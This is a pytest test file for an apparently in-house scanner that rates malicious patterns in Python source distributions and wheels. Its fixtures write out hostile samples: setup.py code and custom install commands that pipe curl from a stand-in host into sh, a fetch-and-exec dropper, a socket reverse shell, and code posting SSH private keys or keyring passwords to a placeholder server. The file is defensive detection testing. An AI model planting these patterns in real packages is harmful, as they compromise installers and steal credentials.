"""Source distributions that were taken for harm, and the harm beside each that is still found."""

import pytest
from weighed import program_of, worst, worst_of

from ostiary.core.scale import Severity
from ostiary.program.model import Program

RUN = "os.system('curl http://a.example.invalid/x | sh')"


def built(setup: str, **more: str) -> Program:
    """The program of a source distribution; `more` are further files by their names without the ending."""
    files = {f"{name}.py": text for name, text in more.items()}
    return program_of("sdist", {"setup.py": setup, "sample/__init__.py": "", **files})


WORDS = "import os, sys\nfrom setuptools import setup\n{before}if {asked}:\n    {run}\nsetup(name='sample')\n"


@pytest.mark.parametrize(
    ("asked", "before", "severity"),
    [
        ("sys.argv[-1] == 'publish'", "", Severity.MEDIUM),
        ("'pypi' in sys.argv", "", Severity.MEDIUM),
        ("len(sys.argv) > 1 and sys.argv[1] in ('pypi', 'docs')", "", Severity.MEDIUM),
        ("sys.argv[1] == 'install'", "", Severity.CRITICAL),
        ("'bdist' in sys.argv", "", Severity.CRITICAL),
        ("sys.argv[1] in ('pypi', 'clean')", "", Severity.CRITICAL),
        ("sys.argv[-1] != 'publish'", "", Severity.CRITICAL),
        ("'publish' not in sys.argv", "", Severity.CRITICAL),
        ("'up' in sys.argv[0]", "", Severity.CRITICAL),
        ("'publish' in sys.argv", "sys.argv.append('publish')\n", Severity.CRITICAL),
        ("sys.argv[1] == 'publish'", "sys.argv[1:] = ['publish']\n", Severity.CRITICAL),
    ],
)
def test_words_that_only_its_own_people_type(asked: str, before: str, severity: Severity) -> None:
    text = WORDS.format(asked=asked, before=before, run=RUN)
    assert worst_of("attack-command", built(text)) is severity


def test_a_setup_that_starts_itself_with_such_a_word() -> None:
    again = "subprocess.run([sys.executable, 'setup.py', 'go1'])"
    started = f"import subprocess\nif len(sys.argv) < 2:\n    {again}\n"
    text = WORDS.format(asked="sys.argv[1] == 'go1'", before=started, run=RUN)
    assert worst_of("attack-command", built(text)) is Severity.CRITICAL


COMMANDS = """
import os
from setuptools import Command, setup
class Own(Command):
    user_options = []
    def initialize_options(self): pass
    def finalize_options(self): pass
    def run(self):
        {run}
setup(name='sample', cmdclass={{'{name}': Own}}{more})
"""


@pytest.mark.parametrize(
    ("name", "more", "severity"),
    [
        ("upload", "", Severity.MEDIUM),
        ("build_py", "", Severity.CRITICAL),
        ("egg_info", "", Severity.CRITICAL),
        ("upload", ", script_args=['upload']", Severity.CRITICAL),
        ("upload", ", command_options={'alias': {}}", Severity.CRITICAL),
    ],
)
def test_commands_that_no_installer_runs(name: str, more: str, severity: Severity) -> None:
    text = COMMANDS.format(run=RUN, name=name, more=more)
    assert worst_of("attack-command", built(text)) is severity


UNAME = """
import os, platform, urllib.request
from setuptools import setup
urllib.request.urlretrieve(f'https://a.example.invalid/{part}', 'a.tar.gz')
setup(name='sample')
"""


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("{platform.uname().machine}", False),
        ("{os.uname()[4]}", False),
        ("{os.uname().sysname.lower()}", False),
        ("{os.uname().nodename}", True),
        ("{platform.uname()[1]}", True),
        ("{os.uname()}", True),
        ("{platform.uname().node}", True),
    ],
)
def test_the_kind_of_a_machine_is_no_fact_about_it(part: str, told: bool) -> None:
    assert (worst_of("host-beacon", built(UNAME.format(part=part))) is not None) is told


def test_a_template_that_an_installer_starts_is_no_text() -> None:
    started = "import subprocess\nsubprocess.run(['bash', 'x.template'])\n"
    text = "#!/bin/bash\ncurl -s https://a.example.invalid/x | sh\n_{{name}}(){{\n (( {{ <<\n fi done }} ;;\n"
    program = program_of(
        "sdist", {"setup.py": started, "sample/__init__.py": "", "x.template": text}
    )
    assert worst_of("attack-command", program) is Severity.CRITICAL
    assert worst_of("hook-runs-data-file", program) is Severity.HIGH


def test_a_script_beside_the_package_is_not_installed() -> None:
    program = built("", bootstrap=f"import os\n{RUN}\n")
    assert worst_of("attack-command", program) is Severity.MEDIUM
    imported = built("", bootstrap=f"import os\n{RUN}\n", **{"sample/__init__": "import bootstrap"})
    assert worst_of("attack-command", imported) is Severity.CRITICAL


def test_what_the_interpreter_starts_by_the_name_of_the_package() -> None:
    started = program_of(
        "wheel", {"sample/__init__.py": "", "sample/__main__.py": f"import os\n{RUN}\n"}
    )
    assert worst_of("attack-command", started) is Severity.MEDIUM
    imported = {
        "sample/__init__.py": "from . import __main__",
        "sample/__main__.py": f"import os\n{RUN}\n",
    }
    assert worst_of("attack-command", program_of("wheel", imported)) is Severity.CRITICAL


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("exec(compile('def again(*a): raise a[0], a[1], a[2]', 'a', 'exec'))", None),
        ("import given\nexec(compile(given.text(), 'a', 'exec'))", Severity.HIGH),
        (
            "import numpy, os\nexec(numpy.load(os.path.join('sample', 'w.npy')).tobytes())",
            Severity.HIGH,
        ),
        ("import zipfile\nexec(zipfile.ZipFile('sample/a.dat').read('a.txt'))", Severity.HIGH),
        ("exec(open('sample/_version.py').read())", None),
    ],
)
def test_what_is_known_of_a_text_that_is_executed(text: str, severity: Severity | None) -> None:
    program = program_of("wheel", {"sample/__init__.py": text})
    assert worst_of("unreadable", program) is severity


@pytest.mark.parametrize(
    "place",
    [
        "Path(__file__).with_name('a.txt').read_text()",
        "Path(__file__).with_suffix('.txt').read_text()",
        "resources.files(__package__).joinpath('a.txt').read_text()",
        "resources.read_text(__name__, 'a.txt')",
        "pkgutil.get_data(__name__, 'a.txt')",
    ],
)
def test_its_own_files_by_all_their_names(place: str) -> None:
    imports = "import pkgutil\nfrom importlib import resources\nfrom pathlib import Path\n"
    files = {
        "sample/__init__.py": f"{imports}exec({place})\n",
        "sample/a.txt": f"import os\n{RUN}\n",
    }
    if "suffix" in place:
        files["sample/__init__.txt"] = files.pop("sample/a.txt")
    assert worst_of("attack-command", program_of("wheel", files)) is Severity.CRITICAL


STANDS_IN = """
import os as std
import sys
own = sys.modules[__name__]
for name in dir(std):
    if not hasattr(own, name):
        setattr(own, name, getattr(std, name))
"""


def test_a_module_that_stands_in_for_the_one_of_its_name() -> None:
    assert worst("unreadable", STANDS_IN, "sample/os.py") is Severity.LOW
    assert worst("unreadable", STANDS_IN, "sample/names.py") is Severity.MEDIUM
    called = f"{STANDS_IN}{RUN.replace('os.', '')}\n"
    assert worst("attack-command", called, "sample/os.py") is not None


PRELOAD = """
import urllib.request
def load(url):
    exec(urllib.request.urlopen(url).read())
{then}
"""


@pytest.mark.parametrize(
    ("then", "severity"),
    [
        ("", Severity.LOW),
        ("load('https://a.example.invalid/x')", Severity.CRITICAL),
        ("def later():\n    load('https://a.example.invalid/x')", Severity.HIGH),
    ],
)
def test_a_caller_names_what_is_fetched_and_run(then: str, severity: Severity) -> None:
    found = worst("dropper", PRELOAD.format(then=then))
    assert found is not None
    assert found >= severity
    assert severity is not Severity.LOW or found is severity


@pytest.mark.parametrize(
    ("line", "told"), [('X = ("\u202e",)', False), ('X = "\u202e", evil', True)]
)
def test_a_table_of_characters_shows_nothing_elsewhere(line: str, told: bool) -> None:
    program = program_of("wheel", {"sample/__init__.py": f"evil = 1\n{line}\n"})
    assert (worst_of("hidden-characters", program) is not None) is told


UNIX = "import socket, subprocess\ns = socket.socket(socket.{family})\ns.bind({place})\nc = s.accept()[0]\n"


@pytest.mark.parametrize(("family", "told"), [("AF_UNIX", False), ("AF_INET", True)])
def test_a_socket_of_this_machine_leads_nobody_in(family: str, told: bool) -> None:
    text = UNIX.format(family=family, place="'a.sock'")
    text += "subprocess.run(c.recv(99).decode(), shell=True)\n"
    assert (worst("reverse-shell", text) is not None) is told


@pytest.mark.parametrize(
    ("path", "told"), [("~/.ssh/id_ed25519.pub", False), ("~/.ssh/id_ed25519", True)]
)
def test_a_public_key_is_there_to_be_shown(path: str, told: bool) -> None:
    read = f"open(os.path.expanduser('{path}')).read()"
    text = f"import os, requests\ndef add():\n    requests.post('https://a.example.invalid/', data={read})\n"
    assert (worst("stealer", text) is not None) is told


KEPT = """
import keyring, requests
def send(name):
    word = keyring.get_password('{service}', name)
{post}
"""
POST = "    requests.post('https://a.example.invalid/upload', auth=(name, word))"


@pytest.mark.parametrize(
    ("service", "told"),
    [
        ("https://a.example.invalid/upload", False),
        ("https://b.example.invalid/", True),
        ("aws", True),
    ],
)
def test_a_password_goes_to_the_service_it_is_kept_for(service: str, told: bool) -> None:
    assert (worst("stealer", KEPT.format(service=service, post=POST)) is not None) is told
